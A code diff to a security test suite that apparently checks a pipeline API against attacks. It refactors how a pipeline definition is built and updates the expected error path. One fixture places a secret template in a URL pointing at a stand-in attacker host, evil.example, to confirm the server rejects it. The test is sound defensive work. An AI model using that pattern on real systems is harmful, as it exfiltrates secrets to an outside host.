@@ -30,6 +30,7 @@ from tests.web_server import WebServer, web_server
 from workloads.http_call.processor import HttpCall
 from workloads.model_endpoints.chat import Chat, chat
 from workloads.model_endpoints.lookup import get_model
+from workloads.pipelines.node_types import chain
 
 API = "/api/v1/"
 MASTER_KEY = base64.b64encode(b"s" * 32).decode()
@@ -161,7 +162,7 @@ def _put_into_pipeline(world: World) -> str:
         {"type": "url", "url": "https://example.com/", "headers": {"A": REFERENCE}},
         {"type": "url", "url": "https://evil.example/{{secrets.api}}", "name": "x"},
     ]
-    definition = {"datasource": {"sources": sources}, "load": {"dataset": "x"}}
+    definition = chain(datasource={"sources": sources}, load={"dataset": "x"})
     key, body = world.with_key(world.aaa), {"name": "x", "definition": definition}
     return _status_and_faults(key.post(API + "pipelines/", body, format="json"))
 
@@ -347,7 +348,7 @@ ATTACKS: tuple[Attack, ...] = (
     Attack(
         "secret is put into the address of a pipeline's page",
         "POST pipelines/ with {{secrets.api}} in a url, beside one in a header",
-        "422 definition_invalid: $.datasource.sources[1].url secret_misplaced",
+        "422 definition_invalid: /nodes/0/config/sources/1/url secret_misplaced",
         _put_into_pipeline,
     ),
     Attack(
